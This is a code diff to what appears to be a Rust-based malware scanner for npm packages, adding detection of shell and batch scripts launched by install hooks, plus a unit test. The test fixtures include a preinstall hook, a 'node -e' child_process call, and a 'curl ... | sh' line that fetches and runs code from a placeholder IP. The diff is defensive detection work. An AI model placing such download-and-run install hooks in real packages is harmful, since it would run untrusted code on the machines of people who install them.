@@ -189,6 +189,8 @@ impl Analyzer {
         let mut flagged_binary: HashSet<&str> = HashSet::new();
         let mut code_files = 0usize;
         let mut install_js: Vec<String> = Vec::new();
+        // Shell or batch scripts an npm install hook runs (`bash setup.sh`).
+        let mut install_scripts: Vec<String> = Vec::new();
         let mut npm_main = String::from("index.js");
         // Folder holding package.json (`package/` in registry tarballs).
         let mut npm_root = String::new();
@@ -232,6 +234,12 @@ impl Analyzer {
                         for w in cmd.split_whitespace() {
                             if w.ends_with(".js") || w.ends_with(".mjs") || w.ends_with(".cjs") {
                                 install_js.push(w.trim_start_matches("./").to_string());
+                            }
+                            if [".sh", ".bash", ".bat", ".cmd", ".ps1"]
+                                .iter()
+                                .any(|e| w.to_ascii_lowercase().ends_with(e))
+                            {
+                                install_scripts.push(w.trim_start_matches("./").to_string());
                             }
                         }
                         // `node -e "<code>"`: the code itself runs while installing.
@@ -360,6 +368,35 @@ impl Analyzer {
                         };
                         let mut facts = Facts::default();
                         python::analyze(t.as_bytes(), &ctx, &mut sink, &mut facts);
+                    }
+                }
+            } else if ecosystem == Ecosystem::Npm
+                && install_scripts
+                    .iter()
+                    .any(|j| path.strip_prefix(npm_root.as_str()) == Some(j.as_str()))
+            {
+                // Every line of a script the install hook runs is a command run at install.
+                code_files += 1;
+                let text = String::from_utf8_lossy(&f.data);
+                for (i, line) in text.lines().enumerate().take(5000) {
+                    let t = line.trim();
+                    if t.is_empty()
+                        || t.starts_with('#')
+                        || t.starts_with("::")
+                        || t.starts_with("REM ")
+                    {
+                        continue;
+                    }
+                    for p in patterns::command_rules(t) {
+                        let msg = format!("install script {}: {}", p.what, model::snippet(t));
+                        findings_extra.push(raw(
+                            p.rule,
+                            path,
+                            i as u32 + 1,
+                            t,
+                            msg,
+                            Some(Scope::INSTALL),
+                        ));
                     }
                 }
             } else if ecosystem == Ecosystem::Npm
@@ -983,6 +1020,58 @@ mod tests {
             path: path.into(),
             data: data.as_bytes().to_vec(),
         }
+    }
+
+    #[test]
+    fn npm_install_hooks_reach_their_scripts_and_entry_point() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let report = a.analyze(
+            &[
+                pf(
+                    "package/package.json",
+                    r#"{"name":"x","version":"1.0.0","main":"lib/main.js","scripts":{"preinstall":"bash ./setup.sh && node -e \"require('child_process').exec('id')\""}}"#,
+                ),
+                pf("package/setup.sh", "# fetch\ncurl -s http://203.0.113.5/x | sh\n"),
+                pf("package/other.sh", "curl -s http://203.0.113.5/x | sh\n"),
+                pf("package/lib/main.js", "require('child_process').exec('id')\n"),
+                pf("package/lib/util.js", "require('child_process').exec('id')\n"),
+            ],
+            &[],
+        );
+        let at = |rule: &str, file: &str| {
+            report
+                .findings
+                .iter()
+                .filter(|f| f.rule == rule && f.file == file)
+                .map(|f| f.stage)
+                .collect::<Vec<_>>()
+        };
+        // The hook's script: each line a command run at install; a script nobody runs: nothing.
+        assert_eq!(
+            at("CMD-STAGED-EXEC", "package/setup.sh"),
+            vec![Some(Stage::Install)]
+        );
+        assert!(at("CMD-STAGED-EXEC", "package/other.sh").is_empty());
+        // `node -e` code runs at install; the entry point's top level at import, fully.
+        assert_eq!(
+            at("JS-CHILD-PROCESS", "package/package.json"),
+            vec![Some(Stage::Install)]
+        );
+        assert_eq!(
+            at("JS-CHILD-PROCESS", "package/lib/main.js"),
+            vec![Some(Stage::Import)]
+        );
+        // Alone, the entry point's top level counts fully, another file's a little less.
+        let weight = |file: &str| {
+            let pj = r#"{"name":"x","version":"1.0.0","main":"lib/main.js"}"#;
+            let files = [
+                pf("package/package.json", pj),
+                pf(file, "require('child_process').exec('id')\n"),
+            ];
+            a.analyze(&files, &[]).score
+        };
+        assert_eq!(weight("package/lib/main.js"), 1.0);
+        assert_eq!(weight("package/lib/util.js"), 0.9);
     }
 
     #[test]
